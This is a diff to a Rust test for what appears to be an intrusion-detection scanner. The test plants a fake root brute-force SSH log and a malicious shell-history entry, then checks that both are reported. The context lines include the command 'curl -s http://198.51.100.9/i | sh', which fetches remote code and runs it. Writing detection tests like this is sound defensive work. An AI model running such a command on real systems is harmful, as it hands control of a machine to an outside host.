@@ -160,6 +160,12 @@ fn clean_debian_is_quiet_and_planted_intrusions_are_reported() {
         "ls\ncurl -s http://198.51.100.9/i | sh\n",
         0o600,
     );
+    let mut auth = String::new();
+    for i in 0..12 {
+        auth += &format!("2026-11-30T10:00:{i:02}.000000+00:00 deb sshd[{}]: Failed password for root from 203.0.113.77 port {} ssh2\n", 100 + i, 40000 + i);
+    }
+    auth += "2026-11-30T10:01:00.000000+00:00 deb sshd[200]: Accepted password for root from 203.0.113.77 port 41000 ssh2\n";
+    p.write("var/log/auth.log", &auth, 0o640);
     let got = findings(&p.root());
     let reported = |needle: &str| {
         got.iter()
@@ -173,6 +179,7 @@ fn clean_debian_is_quiet_and_planted_intrusions_are_reported() {
         "forced command for root",
         "pam_exec",
         "198.51.100.9/i | sh",
+        "Login after brute force from 203.0.113.77",
     ]
     .into_iter()
     .filter(|n| !reported(n))
